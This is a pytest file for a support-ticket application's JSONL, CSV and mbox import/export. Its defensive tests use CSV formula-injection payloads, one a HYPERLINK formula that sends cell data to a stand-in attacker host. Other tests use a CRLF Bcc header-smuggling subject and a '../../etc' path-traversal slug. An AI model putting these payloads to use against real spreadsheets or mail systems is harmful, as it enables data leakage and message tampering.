"""Tickets into files and back."""

import csv
import gzip
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from supportterm.core import verbs
from supportterm.core.nouns import Message
from supportterm.core.orders import Order
from supportterm.core.query import parse as query
from supportterm.core.refusal import Refused
from supportterm.core.terms import Role, Status
from supportterm.core.writing import NewMessage, NewTicket
from supportterm.desk import Desk
from supportterm.exchange.csv import import_csv
from supportterm.exchange.export import export
from supportterm.exchange.importing import import_mail
from supportterm.exchange.jsonl_in import import_jsonl
from supportterm.exchange.mime import parse
from supportterm.store.audit import audit

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    with Desk.create(tmp_path / "team.desk", "team") as made:
        made.define("field", "floor", {"title": "Floor", "kind": "number"})
        made.define("team", "backend", {"name": "Backend", "tier": 2})
        made.define("agent", "kim", {"name": "Kim", "email": "kim@desk.example", "teams": ["backend"]})
        yield made


@pytest.fixture
def other(tmp_path: Path) -> Iterator[Desk]:
    with Desk.create(tmp_path / "other.desk", "other") as made:
        made.create_ticket(NewTicket("already@here.example", "a ticket that shifts the numbers"))
        yield made


def filled(desk: Desk, tmp_path: Path) -> None:
    """Three tickets with some life: replies, a note, a file, tags, an escalation, a merge, an undone change."""
    acme = desk.put_organization(name="Acme", domain="acme.example", segment="enterprise", notes="VIP")
    desk.put_person(
        email="dana@acme.example", name="Dana", phone="+1 555", title="CTO", notes="likes tea", organization=acme
    )
    file = desk.attach(b"\x00\xffbytes", "dump ü.bin", "application/x-dump")
    desk.create_ticket(
        NewTicket(
            "dana@acme.example",
            "Printer",
            body="it burns",
            name="Dana",
            tags=("fire",),
            files=(file,),
            fields={"floor": 3},
        )
    )
    desk.write(1, NewMessage(Role.REPLY, "try *water*", then=Status.PENDING))
    desk.write(1, NewMessage(Role.NOTE, "odd"))
    desk.change(1, verbs.set_priority, priority=3)
    desk.change(1, verbs.set_priority, priority=0)
    desk.undo()
    with desk.bulk() as bulk:
        voice = bulk.person("", "A voice", phone="+1 556")
        bulk.message(bulk.ticket("Anonymous", voice, at=5_000), Role.CUSTOMER, "no address", at=5_000, person=voice)
    desk.create_ticket(NewTicket("dana@acme.example", "Printer again", body="=still"))
    desk.change(3, verbs.merge, into=desk.ticket(1))
    desk.put_article(slug="reset", title="Reset", body="Turn it off.", tags=("basics",), visibility="internal")
    desk.change(1, verbs.link_article, article=desk.put_article(slug="other", title="Other"))
    desk.change(1, verbs.link_article, article=1)
    desk.change(1, verbs.link_article, article=2, link=False)
    box = tmp_path / "mail"
    box.write_bytes(
        b"From x@y Mon Jan  1 10:00:00 2024\nFrom: Bo <bo@acme.example>\n"
        b"Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\nMessage-ID: <1@acme>\n"
        b"Date: 1 Jan 2024 10:00:00 +0000\n\n>From here\nhi\n"
    )
    import_mail(desk, "mbox", box)


def told(desk: Desk) -> list[dict[str, object]]:
    """What a desk says of each ticket, without its numbers."""
    found: list[dict[str, object]] = []
    for row in desk.window(query(""), Order("number", False), size=100).rows:
        ticket = desk.ticket(row.id)
        person = desk.person(ticket.requester)
        messages = [m for m in desk.timeline(row.id, size=500) if isinstance(m, Message)]
        found.append(
            {
                "subject": ticket.subject,
                "state": (
                    ticket.status,
                    ticket.priority,
                    ticket.team,
                    ticket.tier,
                    ticket.tags,
                    ticket.fields,
                    ticket.channel,
                ),
                "times": (
                    ticket.created_at,
                    ticket.updated_at,
                    ticket.solved_at,
                    ticket.customer_at,
                    ticket.replied_at,
                ),
                "merged": (ticket.merged_into is not None, len(ticket.absorbed)),
                "person": (person.name, person.email, person.phone, person.title, person.notes),
                "organization": desk.organization(person.organization).segment if person.organization else None,
                "messages": [
                    (
                        m.role,
                        m.author,
                        m.address,
                        m.at,
                        m.body,
                        m.markdown,
                        m.to,
                        m.cc,
                        m.message_id,
                        m.in_reply_to,
                        m.agent,
                        m.delivery,
                        m.notice,
                    )
                    for m in messages
                ],
                "articles": [desk.article(number).title for number in ticket.articles],
                "files": [
                    (a.name, a.media_type, desk.attachment_path(a.digest).read_bytes())
                    for m in messages
                    for a in desk.attachments(m.id)
                ],
                "originals": [desk.original(m.id) for m in messages],
            }
        )
    return sorted(found, key=str)


def test_jsonl_comes_back_as_it_was(desk: Desk, other: Desk, tmp_path: Path) -> None:
    filled(desk, tmp_path)
    path = tmp_path / "all.jsonl"
    assert export(desk, "", "jsonl", str(path)) == 4
    before = told(other)
    report = import_jsonl(other, path)
    assert (report.new_tickets, report.bad) == (4, [])
    assert [t for t in told(other) if t not in before] == told(desk)
    assert path.stat().st_mode & 0o077 == 0


def test_jsonl_brings_linked_articles_and_leaves_those_that_are_here(desk: Desk, other: Desk, tmp_path: Path) -> None:
    filled(desk, tmp_path)
    other.put_article(slug="other", title="Another", body="as it is here")
    export(desk, "", "jsonl", str(tmp_path / "all.jsonl"))
    assert import_jsonl(other, tmp_path / "all.jsonl").bad == []
    here = other.article("reset")
    assert (here.body, here.tags, here.visibility) == ("Turn it off.", ("basics",), "internal")
    assert (other.article("other").title, len(other.articles())) == ("Another", 2)


def test_jsonl_of_strangers_breaks_nothing(desk: Desk, other: Desk, tmp_path: Path) -> None:
    """Values that no desk writes: each such line is named or means nothing; all else goes in and can be shown."""
    began = {"kind": "create", "subject": "x", "requester": 1}
    ticket = {"kind": "ticket", "subject": "x", "status": "open", "priority": "low", "channel": "mail", "tier": 1}
    ticket |= {"requester": "", "email": "", "organization": None, "assignee": None, "team": None, "tags": []}
    ticket |= {"fields": {}, "created": "", "updated": "", "at": "2024-01-01T00:00:00Z", "actor": "kim"}
    whats = [
        {"kind": "set", "field": "due", "value": 2**62},
        {"kind": "set", "field": "tier", "value": "x"},
        {"kind": "set", "field": "subject"},
        {"kind": "set", "field": "status", "value": 77},
        {"kind": "snooze", "until": 2**80},
        {"kind": "snooze", "until": 2**61},
        {"kind": "article", "article": 5},
        {"kind": "merge", "target": 1},
        {"kind": "undo", "change": "zz"},
        {"kind": "tag", "add": ["still here"]},
    ]
    lines: list[dict[str, object]] = [
        {"kind": "person", "id": 1, "name": "Eve", "email": "eve@x.example"},
        {**ticket, "number": 1, "began": {**began, "status": 99, "priority": -1}},
        *({"kind": "change", "ticket": 1, "at": "2024-01-01T00:00:00Z", "actor": "kim", "what": w} for w in whats),
        {"kind": "change", "ticket": 1, "at": "9999-01-01T00:00:00Z", "actor": "kim", "what": whats[-1]},
        {"kind": "article", "id": 5, "slug": "../../etc", "title": "x", "body": "x"},
        {"kind": "article", "id": 6, "slug": "odd", "title": "x", "body": "x", "state": "odd"},
    ]
    (tmp_path / "x.jsonl").write_text("\n".join(json.dumps(line) for line in lines))
    report = import_jsonl(other, tmp_path / "x.jsonl")
    assert {where for where, _ in report.bad} == {f"line {n}" for n in (7, 8, 9, 11, 13, 14, 15)}
    number = other.ticket(2).id
    assert other.ticket(number).tags == ("still here",) and other.ticket(number).due_at is None
    assert other.ticket(number).merged_into is None
    assert audit(other.path).ok and other.articles() == ()


def test_jsonl_that_breaks_off_gives_what_it_has(desk: Desk, other: Desk, tmp_path: Path) -> None:
    filled(desk, tmp_path)
    export(desk, "", "jsonl", str(tmp_path / "all.jsonl"))
    packed = gzip.compress((tmp_path / "all.jsonl").read_bytes())
    (tmp_path / "half.gz").write_bytes(packed[: len(packed) * 2 // 3])
    report = import_jsonl(other, tmp_path / "half.gz")
    assert "breaks off" in dict(report.bad)["the end"]


def test_jsonl_read_again_adds_nothing(desk: Desk, other: Desk, tmp_path: Path) -> None:
    filled(desk, tmp_path)
    path = tmp_path / "all.jsonl"
    export(desk, "", "jsonl", str(path))
    import_jsonl(other, path)
    before = told(other)
    again = import_jsonl(other, path)
    assert (again.new_tickets, again.new_messages, again.bad) == (0, 0, [])
    assert told(other) == before


def test_jsonl_lines_that_are_none_are_named(other: Desk, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text(
        '{"kind":"desk","name":"x"}\nno json\n{"kind":"person","id":1,"name":"Dana","email":"d@x.example"}\n'
        '{"kind":"message","ticket":9,"id":1,"role":"note","at":"2024-01-01T00:00:00Z","body":"x"}\n{"kind":"later"}\n'
    )
    report = import_jsonl(other, path)
    assert [where for where, _ in report.bad] == ["line 2", "line 4", "line 5"]
    found = other.person_by_email("d@x.example")
    assert found is not None and found.name == "Dana"


def test_csv_can_be_read_by_others_and_computes_nothing(desk: Desk, tmp_path: Path) -> None:
    for formula in FORMULAS:
        desk.create_ticket(NewTicket("a@x.example", formula, body=formula, name=formula))
    path = tmp_path / "x.csv"
    assert export(desk, "", "csv", str(path)) == len(FORMULAS)
    head, *rows = csv.reader(io.StringIO(path.read_text("utf-8"), newline=""))
    assert head[:3] == ["number", "subject", "status"]
    for row in rows:
        assert len(row) == len(head)
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"), cell


def test_csv_columns_are_known_by_their_names(other: Desk, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(
        b'Title;Description;Requester Email;Requester;Priority;State;Labels;Created At;Floor;Company\r\n'
        b'Printer;"it burns;\r\nreally";dana@acme.example;Dana;Critical;In Progress;fire, Hot;'
        b'2024-01-01T10:00:00Z;3;Acme\r\n'
        b';;;;;;;;;\r\n'
        b'Only a title\r\n'
        b';;x@y;;;;;;;\r\n'
        b'too;many;cells;in;this;row;of;the;file;for;it\r\n'
    )  # fmt: skip
    report = import_csv(other, path)
    assert (report.new_tickets, [where for where, _ in report.bad]) == (2, ["row 5", "row 6"])
    ticket = other.ticket(2)
    assert (ticket.subject, ticket.status, ticket.priority.word, ticket.tags) == (
        "Printer",
        Status.OPEN,
        "urgent",
        ("fire", "hot"),
    )
    assert (ticket.created_at, ticket.fields) == (1_704_103_200_000, {"floor": "3"})
    (message,) = (m for m in other.timeline(2) if isinstance(m, Message))
    assert message.body == "it burns;\r\nreally"
    assert import_csv(other, path).new_tickets == 0


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_csv_of_any_encoding(other: Desk, tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes("subject,email\nGrüße – „so“,a@x.example\n".encode(encoding))
    assert import_csv(other, path).new_tickets == 1
    assert other.ticket(2).subject == "Grüße – „so“"


def test_csv_without_a_subject_is_refused(other: Desk, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(Refused, match="no column named subject"):
        import_csv(other, path)


def test_csv_of_ours_comes_back_with_its_formulas(desk: Desk, other: Desk, tmp_path: Path) -> None:
    for formula in FORMULAS:
        desk.create_ticket(NewTicket("a@x.example", formula.strip(), body=formula))
    export(desk, "", "csv", str(tmp_path / "x.csv"))
    import_csv(other, tmp_path / "x.csv")
    assert [other.ticket(n + 2).subject for n in range(len(FORMULAS))] == [f.strip() for f in FORMULAS]


def test_mbox_holds_the_public_mail_and_threads_again(desk: Desk, other: Desk, tmp_path: Path) -> None:
    filled(desk, tmp_path)
    path = tmp_path / "out.mbox"
    assert export(desk, "", "mbox", str(path)) == 4
    assert b"odd" not in path.read_bytes()
    other.define("agent", "kim", {"name": "Kim", "email": "kim@desk.example"})
    report = import_mail(other, "mbox", path)
    assert (report.new_tickets, report.new_messages, report.bad) == (4, 5, [])
    tickets = {other.ticket(n + 2).subject: other.ticket(n + 2) for n in range(4)}
    assert set(tickets) == {"Printer", "Anonymous", "Printer again", "Grüße"}
    assert (tickets["Printer"].messages, tickets["Printer"].attachments) == (2, 1)


def test_a_header_can_not_be_smuggled_into_exported_mail(desk: Desk, tmp_path: Path) -> None:
    desk.create_ticket(
        NewTicket("a@x.example", "Re: x\r\nBcc: victim@example.com", body="hi", name="N\nBcc: v@x.example")
    )
    path = tmp_path / "out.mbox"
    export(desk, "", "mbox", str(path))
    raw = path.read_bytes().partition(b"\n")[2]
    assert not [line for line in raw.splitlines() if line.lower().startswith(b"bcc")]
    assert parse(raw).subject == "Re: x Bcc: victim@example.com"


def test_a_failed_export_leaves_the_old_file(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text("old")
    with pytest.raises(Exception, match="nonsense"):
        export(desk, "nonsense:query", "jsonl", str(path))
    assert path.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    with pytest.raises(Refused, match="can't be written"):
        export(desk, "", "csv", str(tmp_path / "gone" / "x.csv"))


def test_an_export_of_words_goes_all_the_way_back(other: Desk, tmp_path: Path) -> None:
    with other.bulk() as bulk:
        eve = bulk.person("eve@x.example")
        for n in range(2_500):
            bulk.message(bulk.ticket("zebra", eve, at=n + 1), Role.CUSTOMER, "stripes", at=n + 1)
    assert export(other, "zebra -status:closed", "csv", str(tmp_path / "z.csv")) == 2_500
    numbers = [int(row["number"]) for row in csv.DictReader((tmp_path / "z.csv").open(encoding="utf-8-sig"))]
    assert numbers == sorted(numbers)


def test_standard_output(desk: Desk, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    desk.create_ticket(NewTicket("a@x.example", "one"))
    export(desk, "", "jsonl", "-")
    lines = [json.loads(line) for line in capfdbinary.readouterr().out.splitlines()]
    assert [line["kind"] for line in lines][:2] == ["desk", "person"]
